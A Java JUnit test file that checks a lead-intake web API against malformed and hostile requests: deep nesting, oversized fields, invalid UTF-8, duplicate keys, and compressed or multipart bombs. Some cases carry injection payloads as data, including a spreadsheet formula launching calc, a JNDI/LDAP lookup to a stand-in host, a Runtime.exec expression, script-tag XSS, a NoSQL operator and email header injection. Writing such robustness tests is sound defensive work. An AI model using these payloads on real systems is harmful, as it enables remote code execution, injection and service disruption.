package io.followthrough.intake.web;

import static org.assertj.core.api.Assertions.assertThat;

import io.followthrough.intake.IntakeTest;
import io.followthrough.testkit.EmbeddedPlatform;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What somebody may think up. Each has the answer that its sender can act on, none is a fault of ours. */
class HostileInputTests extends IntakeTest {

    private static final String JSON = "application/json";
    private static final String LEAD = "{\"channel\": \"BLOG\", \"person\": {\"email\": \"hostile@example.com\"%s}%s}";
    private static final List<Hostile> TABLE = new ArrayList<>();

    /** @param says what the answer must contain */
    record Hostile(String name, String path, String type, byte[] body, int status, String says, String... headers) {

        @Override
        public String toString() {
            return name;
        }
    }

    static {
        // JSON that is none, or too much of it
        lead("nothing", "", 400, "");
        lead("null", "null", 400, "not a JSON object");
        lead("a number", "42", 400, "not a JSON object");
        lead("a list", "[]", 400, "not a JSON object");
        lead("a text", "\"lead\"", 400, "not a JSON object");
        lead("broken off", "{\"channel\": \"BLOG\"", 400, "is not JSON");
        lead("two objects", "{} {}", 400, "is not JSON");
        lead("a comment", "{/* */}", 400, "is not JSON");
        lead("single quotes", "{'channel': 'BLOG'}", 400, "is not JSON");
        lead("NaN", inAnswers("NaN"), 400, "is not JSON");
        lead("depth 100", inAnswers("[".repeat(100) + "]".repeat(100)), 400, "nested");
        lead("depth 10,000", "[".repeat(10_000) + "]".repeat(10_000), 400, "nested");
        lead("depth 10,000 of objects", "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000), 400, "nested");
        lead("depth 10,000 never closed", "[".repeat(10_000), 400, "");
        lead("a number of 5,000 digits", inAnswers("9".repeat(5_000)), 400, "too long");
        lead("an exponent that fills the heap", inAnswers("1e999999999"), 202, "leadId");
        lead(
                "a key twice",
                "{\"channel\": \"BLOG\", \"channel\": \"EMAIL\", \"person\": {\"email\": \"a@b.example\"}}",
                400,
                "twice");
        lead(
                "a key twice, deeper",
                "{\"channel\": \"BLOG\", \"person\": {\"email\": \"a@b.example\", \"email\": \"b@b.example\"}}",
                400,
                "twice");
        lead(
                "one path by two ways",
                "{\"channel\": \"BLOG\", \"person.email\": \"a@b.example\", \"person\": {\"email\": \"b@b.example\"}}",
                400,
                "twice");
        lead("a key of 100,000 letters", "{\"channel\": \"BLOG\", \"" + "k".repeat(100_000) + "\": 1}", 400, "");
        lead("20,000 fields", "{\"channel\": \"BLOG\"" + many(20_000) + "}", 400, "more than");
        lead("200 unknown fields", LEAD.formatted("", many(200)), 400, "is not a field");
        lead("a long key over many values", "{\"" + "k".repeat(900) + "\": {\"a\": 1" + many(5_000) + "}}", 400, "");
        // letters
        raw("bytes that are no UTF-8", "{\"channel\": \"BLOG\", \"message\": \"", "FFFE", "\"}", 400, "is not UTF-8");
        raw("overlong slash", "{\"channel\": \"BLOG\", \"message\": \"", "C0AF", "\"}", 400, "is not UTF-8");
        raw("overlong NUL", "{\"channel\": \"BLOG\", \"message\": \"", "C080", "\"}", 400, "is not UTF-8");
        raw("a surrogate in bytes", "{\"channel\": \"BLOG\", \"message\": \"", "EDA080", "\"}", 400, "is not UTF-8");
        raw(
                "beyond the last letter",
                "{\"channel\": \"BLOG\", \"message\": \"",
                "F4908080",
                "\"}",
                400,
                "is not UTF-8");
        raw("UTF-16", "", "FFFE7B007D00", "", 400, "is not UTF-8");
        lead("half a character", LEAD.formatted("", ", \"message\": \"\\ud83d\""), 400, "half a character");
        lead(
                "half a character in a key",
                LEAD.formatted("", ", \"answers\": {\"\\ude00\": \"x\"}"),
                400,
                "half a character");
        lead("NUL", LEAD.formatted("", ", \"message\": \"a\\u0000b\""), 202, "leadId");
        lead("right to left", LEAD.formatted(", \"name\": \"\\u202Etxt.exe\"", ""), 202, "leadId");
        lead("a formula", LEAD.formatted(", \"name\": \"=cmd|'/C calc'!A0\"", ""), 202, "leadId");
        lead("a look-up", LEAD.formatted(", \"name\": \"${jndi:ldap://x.example/a}\"", ""), 202, "leadId");
        lead(
                "an expression",
                LEAD.formatted(", \"name\": \"#{T(java.lang.Runtime).getRuntime().exec('x')}\"", ""),
                202,
                "leadId");
        lead("a script", LEAD.formatted(", \"name\": \"<script>alert(1)</script>\"", ""), 202, "leadId");
        lead("an operator of the store", LEAD.formatted(", \"externalIds\": {\"$where\": \"1\"}", ""), 202, "warnings");
        lead("a key with dots", LEAD.formatted("", ", \"answers\": {\"a.b.c\": \"x\"}"), 202, "leadId");
        lead(
                "header lines in an address",
                LEAD.replace("hostile@", "a\\r\\nBcc: b@").formatted("", ""),
                400,
                "person.email");
        // fields
        lead(
                "an object for a text",
                "{\"channel\": \"BLOG\", \"person\": {\"email\": {\"$gt\": \"\"}}}",
                400,
                "person.email");
        lead("a text for an object", "{\"channel\": \"BLOG\", \"person\": \"ann\"}", 400, "person");
        lead("a number for a text", "{\"channel\": 5, \"person\": {\"email\": \"a@b.example\"}}", 400, "channel");
        lead("no channel", "{\"person\": {\"email\": \"a@b.example\"}}", 400, "channel");
        lead("nobody", "{\"channel\": \"BLOG\"}", 400, "person");
        lead(
                "a date of the year 292278994",
                LEAD.formatted("", ", \"capturedAt\": \"+292278994-08-17T07:12:55.807Z\""),
                400,
                "capturedAt");
        lead("a date that is a number", LEAD.formatted("", ", \"capturedAt\": 177243840"), 400, "capturedAt");
        lead(
                "a name of 100,000 letters",
                LEAD.formatted(", \"name\": \"" + "n".repeat(100_000) + "\"", ""),
                400,
                "person.name");
        lead("300 answers", LEAD.formatted("", ", \"answers\": {\"a\": 1" + many(300) + "}"), 400, "answers");
        // headers
        lead("a type that nobody can give", LEAD.formatted("", ""), 406, "", "Accept", "image/png");
        lead("a type that is none", LEAD.formatted("", ""), 406, "", "Accept", "///");
        lead("an empty key", LEAD.formatted("", ""), 400, "Idempotency-Key", "Idempotency-Key", " ");
        lead("a long key", LEAD.formatted("", ""), 400, "Idempotency-Key", "Idempotency-Key", "k".repeat(300));
        lead("a packed body", LEAD.formatted("", ""), 415, "as it is", "Content-Encoding", "gzip");
        lead("a body packed twice", LEAD.formatted("", ""), 415, "as it is", "Content-Encoding", "gzip, br");
        lead("a body that is not packed", LEAD.formatted("", ""), 202, "leadId", "Content-Encoding", "identity");
        to("/v1/leads", "application/x-www-form-urlencoded", "channel=BLOG", 415, "");
        to("/v1/leads", "text/html", "<p>", 415, "");
        to("/v1/leads", "nonsense", "{}", 415, "");
        // batches and events
        to("/v1/leads/batch", "application/x-ndjson", "\n\n\n", 200, "");
        to("/v1/leads/batch", "application/x-ndjson", "[".repeat(5_000) + "\n" + LEAD.formatted("", ""), 200, "leadId");
        to(
                "/v1/leads/batch",
                "application/x-ndjson",
                LEAD.formatted("", ", \"message\": \"one\u2028line\""),
                200,
                "leadId");
        to("/v1/leads/batch", "application/x-ndjson", "{\"channel\":1}\r\n" + LEAD.formatted("", ""), 200, "leadId");
        to(
                "/v1/leads/batch",
                "application/x-ndjson",
                "{\"a\": [" + "[],".repeat(400_000) + "1]}\n" + LEAD.formatted("", ""),
                200,
                "\"status\":413");
        to("/v1/leads/batch", "application/x-ndjson", "{}\n".repeat(1_000_000), 413, "10000 lines");
        to("/v1/events", "application/cloudevents-batch+json", "{}", 400, "array");
        to("/v1/events", "application/cloudevents-batch+json", "[1, null, \"x\", []]", 400, "not a CloudEvent");
        to(
                "/v1/events",
                "application/cloudevents+json",
                "{\"specversion\": \"1.0\", \"id\": {}, \"source\": [], \"type\": 1}",
                400,
                "id");
        to("/v1/events", "application/cloudevents+json", "[".repeat(10_000), 400, "");
        to("/v1/events", "application/cloudevents+xml", "<event/>", 415, "JSON");
        to("/v1/events", "application/json", "{}", 400, "not a CloudEvent");
        to("/v1/activities", JSON, "[[[]]]", 400, "[0]");
        to(
                "/v1/activities",
                JSON,
                "{\"kind\": \"DEAL_WON\", \"prospectId\": \"p\", \"deal\": {\"value\": 1e-999999}}",
                400,
                "deal.value");
        to(
                "/v1/activities",
                JSON,
                "{\"kind\": \"DEAL_WON\", \"prospectId\": \"p\", \"deal\": {\"value\": \"" + "9".repeat(200_000)
                        + "\"}}",
                400,
                "deal.value");
    }

    private static void lead(String name, String body, int status, String says, String... headers) {
        TABLE.add(new Hostile(name, "/v1/leads", JSON, body.getBytes(StandardCharsets.UTF_8), status, says, headers));
    }

    private static void raw(String name, String before, String hex, String after, int status, String says) {
        var body = HexFormat.of().formatHex(before.getBytes(StandardCharsets.UTF_8))
                + hex
                + HexFormat.of().formatHex(after.getBytes(StandardCharsets.UTF_8));
        TABLE.add(new Hostile(name, "/v1/leads", JSON, HexFormat.of().parseHex(body), status, says));
    }

    private static void to(String path, String type, String body, int status, String says) {
        var name = path + " " + type + " " + body.substring(0, Math.min(30, body.length()));
        TABLE.add(new Hostile(name, path, type, body.getBytes(StandardCharsets.UTF_8), status, says));
    }

    private static String inAnswers(String json) {
        return LEAD.formatted("", ", \"answers\": {\"x\": " + json + "}");
    }

    private static String many(int count) {
        var fields = new StringBuilder();
        for (int i = 0; i < count; i++) {
            fields.append(", \"f").append(i).append("\": 1");
        }
        return fields.toString();
    }

    static Stream<Hostile> table() {
        return TABLE.stream();
    }

    @ParameterizedTest
    @MethodSource("table")
    void isAnsweredInWordsThatItsSenderCanActOn(Hostile hostile) {
        var answer = send(request(hostile.path(), EmbeddedPlatform.CAPTURE_KEY, hostile.headers())
                .header("Content-Type", hostile.type())
                .POST(HttpRequest.BodyPublishers.ofByteArray(hostile.body())));

        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(hostile.status());
        assertThat(answer.body()).contains(hostile.says());
    }

    /** A packed delivery, as many fields and parts as nobody sends: refused before any of them is looked at. */
    @ParameterizedTest
    @MethodSource("bombs")
    void partsWithoutEndAreNoFaultOfOurs(Hostile bomb) {
        var answer = send(anonymous(bomb.path(), bomb.headers())
                .header("Content-Type", bomb.type())
                .POST(HttpRequest.BodyPublishers.ofByteArray(bomb.body())));

        assertThat(answer.statusCode()).as(answer.body()).isBetween(400, 499);
        assertThat(send(anonymous("/forms/contact").GET()).statusCode()).isLessThan(500);
    }

    static Stream<Hostile> bombs() {
        var form = "application/x-www-form-urlencoded";
        var fields = new StringBuilder();
        for (int i = 0; i < 20_000; i++) {
            fields.append("f").append(i).append("=1&");
        }
        var part = "--cut\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n1\r\n";
        return Stream.of(
                bomb("/v1/webhooks/list/" + SENDER_SECRET, form, "type=subscribe", "Content-Encoding", "gzip"),
                bomb("/forms/newsletter", form, "person.email=a@b.example", "Content-Encoding", "gzip"),
                bomb("/forms/newsletter", form, fields.toString()),
                bomb("/v1/imports", "multipart/form-data; boundary=cut", part.repeat(10_000) + "--cut--\r\n"));
    }

    private static Hostile bomb(String path, String type, String body, String... headers) {
        var name = path + " " + type + " " + body.length();
        return new Hostile(name, path, type, body.getBytes(StandardCharsets.UTF_8), 0, "", headers);
    }
}
